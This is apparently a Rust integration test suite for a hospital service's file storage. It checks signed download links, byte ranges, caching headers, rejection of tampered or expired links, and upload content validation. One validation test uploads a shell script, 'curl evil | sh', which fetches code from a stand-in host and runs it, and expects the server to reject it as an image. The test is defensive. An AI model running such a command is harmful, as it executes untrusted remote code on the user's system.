//! Object storage end to end against the real binary: a file uploaded through the sandbox's
//! upload route (checked by content, capped in size) is downloaded by its signed link through
//! `GET /api/v1/files/{key}`, whole and by ranges, with its caching headers; the same link is
//! refused once expired, and an altered link is refused at once. Run with the default backend
//! (a directory in the data directory) and with a real S3-compatible server (moto, on a free
//! port, path-style).

use reqwest::header::{self, HeaderMap};
use reqwest::Response;

use crate::harness::{assert_error, expect_json, Opts, TestServer};
use hospital_testkit::S3Server;

/// The image cap the tests configure.
const MAX_IMAGE: usize = 200_000;

fn opts() -> Opts {
    Opts::new()
        .env("HOSPITAL_GATEWAY__LIMITS__PER_IP_PER_SECOND", 1_000_000)
        .env("HOSPITAL_GATEWAY__LIMITS__PER_IP_BURST", 1_000_000)
        .env("HOSPITAL_OBJECTS__MAX_IMAGE_BYTES", MAX_IMAGE)
}

fn png(len: usize) -> Vec<u8> {
    let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
    v.extend((0..len - 8).map(|i| (i * 31 % 253) as u8));
    v
}

async fn upload(s: &TestServer, query: &str, content_type: &str, body: Vec<u8>) -> Response {
    s.client()
        .put(s.url(&format!("/sandbox/files?{query}")))
        .header(header::CONTENT_TYPE, content_type)
        .body(body)
        .send()
        .await
        .expect("upload")
}

async fn get(s: &TestServer, url: &str, headers: &[(&str, &str)]) -> Response {
    let mut h = HeaderMap::new();
    for (k, v) in headers {
        h.insert(header::HeaderName::from_bytes(k.as_bytes()).unwrap(), v.parse().unwrap());
    }
    s.client().get(s.url(url)).headers(h).send().await.expect("download")
}

fn hdr(r: &Response, name: header::HeaderName) -> &str {
    r.headers().get(&name).unwrap_or_else(|| panic!("no {name} header")).to_str().unwrap()
}

/// Everything a download link must do, on whichever backend the server runs.
async fn exercise(s: &TestServer) -> String {
    let body = png(150_000);
    let up = expect_json(upload(s, "kind=image&name=化验单.png", "image/png", body.clone()).await, 201).await;
    let key = up["key"].as_str().unwrap().to_string();
    let url = up["url"].as_str().unwrap().to_string();
    assert!(key.starts_with("sandbox/images/") && key.ends_with(".png"), "{up}");
    assert_eq!((up["content_type"].as_str(), up["size"].as_u64()), (Some("image/png"), Some(150_000)));
    assert!(url.starts_with(&format!("/api/v1/files/{key}?exp=")), "{url}");

    // The whole file, with its headers.
    let r = get(s, &url, &[]).await;
    assert_eq!(r.status(), 200);
    assert_eq!(hdr(&r, header::CONTENT_TYPE), "image/png");
    assert_eq!(hdr(&r, header::CONTENT_LENGTH), "150000");
    assert_eq!(hdr(&r, header::ACCEPT_RANGES), "bytes");
    assert_eq!(hdr(&r, header::X_CONTENT_TYPE_OPTIONS), "nosniff");
    let disposition = hdr(&r, header::CONTENT_DISPOSITION).to_string();
    assert!(disposition.starts_with("inline; ") && disposition.contains("UTF-8''%E5%8C%96"), "{disposition}");
    let cache = hdr(&r, header::CACHE_CONTROL).to_string();
    let max_age: i64 = cache.strip_prefix("private, max-age=").expect(&cache).parse().unwrap();
    let left = up["expires"].as_i64().unwrap() - chrono::Utc::now().timestamp();
    assert!(max_age > 0 && max_age <= left + 1, "max-age {max_age} within the link's {left} s");
    let etag = hdr(&r, header::ETAG).to_string();
    assert!(etag.starts_with('"') && etag.ends_with('"') && etag.len() > 2, "{etag}");
    assert!(r.bytes().await.unwrap() == body, "the bytes uploaded");

    // Ranges: first-last, open-ended, suffix; outside the file is 416 with the size.
    let r = get(s, &url, &[("range", "bytes=1000-1999")]).await;
    assert_eq!(r.status(), 206);
    assert_eq!(hdr(&r, header::CONTENT_RANGE), "bytes 1000-1999/150000");
    assert_eq!(hdr(&r, header::CONTENT_LENGTH), "1000");
    assert!(r.bytes().await.unwrap() == body[1000..2000]);
    let r = get(s, &url, &[("range", "bytes=149990-")]).await;
    assert_eq!((r.status().as_u16(), hdr(&r, header::CONTENT_RANGE)), (206, "bytes 149990-149999/150000"));
    assert!(r.bytes().await.unwrap() == body[149_990..]);
    let r = get(s, &url, &[("range", "bytes=-16")]).await;
    assert_eq!(r.status(), 206);
    assert!(r.bytes().await.unwrap() == body[150_000 - 16..]);
    let r = get(s, &url, &[("range", "bytes=150000-")]).await;
    assert_eq!(hdr(&r, header::CONTENT_RANGE), "bytes */150000");
    assert_error(r, 416, "range_not_satisfiable").await;
    // A range for another version (If-Range) gets the whole file; a cached copy gets 304.
    let r = get(s, &url, &[("range", "bytes=0-9"), ("if-range", "\"another-version\"")]).await;
    assert_eq!(r.status(), 200);
    let r = get(s, &url, &[("range", "bytes=0-9"), ("if-range", &etag)]).await;
    assert_eq!(r.status(), 206);
    let r = get(s, &url, &[("if-none-match", &etag)]).await;
    assert_eq!(r.status(), 304);
    assert_eq!(hdr(&r, header::ETAG), etag);

    // Altered links: the signature, the key, the expiry, the name. Refused, not served.
    let (path, query) = url.split_once('?').unwrap();
    let sig = query.split('&').find_map(|p| p.strip_prefix("sig=")).unwrap();
    let flipped = format!("{}{}", &sig[..sig.len() - 1], if sig.ends_with('A') { 'B' } else { 'A' });
    let exp = up["expires"].as_i64().unwrap();
    let other = expect_json(upload(s, "kind=image", "image/png", png(500)).await, 201).await;
    let other_key = other["key"].as_str().unwrap();
    for bad in [
        url.replace(sig, &flipped),
        format!("/api/v1/files/{other_key}?{query}"),
        url.replace(&format!("exp={exp}"), &format!("exp={}", exp + 3600)),
        url.replace("&name=", "&name=x"),
        format!("{path}?exp=1&sig={sig}"), // an old expiry: still the signature that fails first
    ] {
        assert_error(get(s, &bad, &[]).await, 403, "bad_signature").await;
    }
    let r = get(s, &format!("/api/v1/files/{key}"), &[]).await;
    assert_error(r, 400, "bad_request").await;

    // Content checks: renamed executables, a type the use does not take, a lie about the type,
    // and a file over the cap.
    let mut elf = b"\x7FELF\x02\x01\x01\0".to_vec();
    elf.resize(10_000, 0);
    let e = assert_error(upload(s, "kind=image", "image/png", elf).await, 415, "unsupported_media_type").await;
    assert!(e["message"].as_str().unwrap().contains("executable"), "{e}");
    let script = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    assert_error(upload(s, "kind=image", "image/jpeg", script).await, 415, "unsupported_media_type").await;
    let pdf = b"%PDF-1.7\n%%EOF\n".to_vec();
    assert_error(upload(s, "kind=image", "application/pdf", pdf.clone()).await, 415, "unsupported_media_type").await;
    expect_json(upload(s, "kind=report", "application/pdf", pdf).await, 201).await;
    assert_error(upload(s, "kind=image", "image/jpeg", png(1000)).await, 415, "unsupported_media_type").await;
    let e =
        assert_error(upload(s, "kind=image", "image/png", png(MAX_IMAGE + 1)).await, 413, "payload_too_large").await;
    assert!(e["message"].as_str().unwrap().contains(&MAX_IMAGE.to_string()), "{e}");
    expect_json(upload(s, "kind=image", "image/png", png(MAX_IMAGE)).await, 201).await;

    // The same kind of link, a second long: refused once it has expired.
    let short = expect_json(upload(s, "kind=image&ttl_secs=1", "image/png", png(1000)).await, 201).await;
    let expires = short["expires"].as_i64().unwrap();
    while chrono::Utc::now().timestamp() <= expires {
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let e = assert_error(get(s, short["url"].as_str().unwrap(), &[]).await, 403, "link_expired").await;
    assert!(e["message"].as_str().unwrap().contains("expired"), "{e}");
    key
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_downloads_from_the_data_directory() {
    let s = TestServer::start(opts()).await;
    let doc = s.get_json("/api/openapi.json", None).await;
    for path in ["/api/v1/files/{key}", "/sandbox/files", "/sandbox/audit"] {
        assert!(doc["paths"][path].is_object(), "{path} is documented");
    }
    let key = exercise(&s).await;
    let dir = s.stop();
    let on_disk = std::fs::read(dir.path().join("objects").join(&key)).expect("stored under the data directory");
    assert_eq!(on_disk, png(150_000));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn signed_downloads_from_an_s3_compatible_server() {
    let s3 = tokio::task::spawn_blocking(|| S3Server::start("hospital-files")).await.unwrap();
    let s = TestServer::start(opts().s3(&s3)).await;
    exercise(&s).await;
    let dir = s.stop();
    assert!(!dir.path().join("objects").exists(), "nothing went to the local directory");
}
